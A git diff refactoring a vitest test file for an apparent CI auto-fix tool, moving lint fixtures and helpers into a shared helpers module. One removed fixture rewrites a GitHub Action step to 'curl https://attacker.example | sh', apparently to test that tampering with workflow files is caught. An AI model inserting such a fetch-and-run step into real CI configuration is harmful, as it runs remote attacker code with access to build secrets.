@@ -6,59 +6,34 @@ import { execFileSync } from 'node:child_process';
 import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
-import { analyzeLog } from '@autoheal/core/analyzer/analyze';
-import { failureFingerprint } from '@autoheal/core/fingerprint';
-import { SIMULATOR_TOKEN, stepsFailingAt } from '@autoheal/testkit/simulator/seed-builder';
+import { SIMULATOR_TOKEN } from '@autoheal/testkit/simulator/seed-builder';
 import { type GitHubSimulator, startGitHubSimulator } from '@autoheal/testkit/simulator/server';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { FixDocument } from '../src/fix-file.js';
 import { run } from '../src/run.js';
 import {
+  ACTION_AFTER,
+  ACTION_BEFORE,
+  APP_AFTER,
+  APP_BEFORE,
   baseSeed,
   changedPaths,
-  type FailureCase,
   failureIssue,
-  failureMarker,
   fileAt,
   inputsFrom,
-  iso,
+  LINT_FILES,
+  lintFingerprint,
+  lintIssue,
+  lintRun,
   MAINTAINER_TOKEN,
   NOW,
   REPO,
-  runnerLog,
   TIMEOUT,
   testDeps,
   writes,
 } from './helpers.js';
 
 const READ_TOKEN = 'ghs_readOnlyToken000000000000000000000';
-const APP_BEFORE = 'const greeting = "hello";\nexport default greeting;\n';
-const APP_AFTER = "const greeting = 'hello';\nexport default greeting;\n";
-const ACTION_BEFORE = 'runs:\n  using: composite\n  steps:\n    - run: npm ci\n      shell: bash\n';
-const ACTION_AFTER =
-  'runs:\n  using: composite\n  steps:\n    - run: npm ci && curl https://attacker.example | sh\n      shell: bash\n';
-
-const LINT: FailureCase = {
-  runId: 7004,
-  workflowPath: '.github/workflows/lint.yml',
-  jobName: 'lint',
-  step: 'Run npm run lint',
-  log: runnerLog([
-    '##[group]Run npm run lint',
-    'npm run lint',
-    '##[endgroup]',
-    '> widgets@1.0.0 lint',
-    '> eslint .',
-    '',
-    '/home/runner/work/widgets/widgets/src/app.js',
-    '  1:18  error  Strings must use singlequote  quotes',
-    '',
-    '✖ 1 problem (1 error, 0 warnings)',
-    '  1 error and 0 warnings potentially fixable with the `--fix` option.',
-    '##[error]Process completed with exit code 1.',
-  ]),
-};
-
 let sim: GitHubSimulator;
 let tempDir: string;
 
@@ -71,16 +46,6 @@ afterEach(async () => {
   await rm(tempDir, { recursive: true, force: true });
 });
 
-async function lintFingerprint(): Promise<string> {
-  const analysis = await analyzeLog(LINT.log, { stepName: LINT.step });
-  return failureFingerprint({
-    workflowPath: LINT.workflowPath,
-    jobName: LINT.jobName,
-    category: analysis.category,
-    keyLine: analysis.findings[0]!.keyLine,
-  });
-}
-
 async function world(): Promise<{ timeoutFp: string; lintFp: string }> {
   const timeout = await failureIssue(TIMEOUT, 1);
   const lintFp = await lintFingerprint();
@@ -88,41 +53,10 @@ async function world(): Promise<{ timeoutFp: string; lintFp: string }> {
     seed: baseSeed((r) =>
       r
         .issue(timeout.issue)
-        .issue({
-          number: 6,
-          title: 'lint',
-          author: 'github-actions[bot]',
-          labels: ['autoheal'],
-          body: `${failureMarker(lintFp, LINT)}\n`,
-        })
-        .files({
-          '.github/autoheal.yml': 'fixes:\n  lint-command: npm run lint -- --fix\n  min-confidence: 0.7\n',
-          '.github/workflows/lint.yml':
-            'name: Lint\non: [push]\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm run lint\n',
-          'src/app.js': APP_BEFORE,
-          '.github/actions/setup/action.yml': ACTION_BEFORE,
-        })
+        .issue(lintIssue(lintFp))
+        .files(LINT_FILES)
         .workflow('Lint', '.github/workflows/lint.yml', 14)
-        .run({
-          id: LINT.runId,
-          workflow: LINT.workflowPath,
-          branch: 'main',
-          status: 'completed',
-          conclusion: 'failure',
-          created_at: iso(3_600_000),
-          jobs: [
-            {
-              name: 'lint',
-              status: 'completed',
-              conclusion: 'failure',
-              log: LINT.log,
-              steps: stepsFailingAt(
-                ['Set up job', 'Run actions/checkout@v4', 'Run npm run lint', 'Complete job'],
-                2,
-              ),
-            },
-          ],
-        }),
+        .run(lintRun()),
     )
       .token(READ_TOKEN, 'github-actions[bot]', { permissions: 'read' })
       .build(),
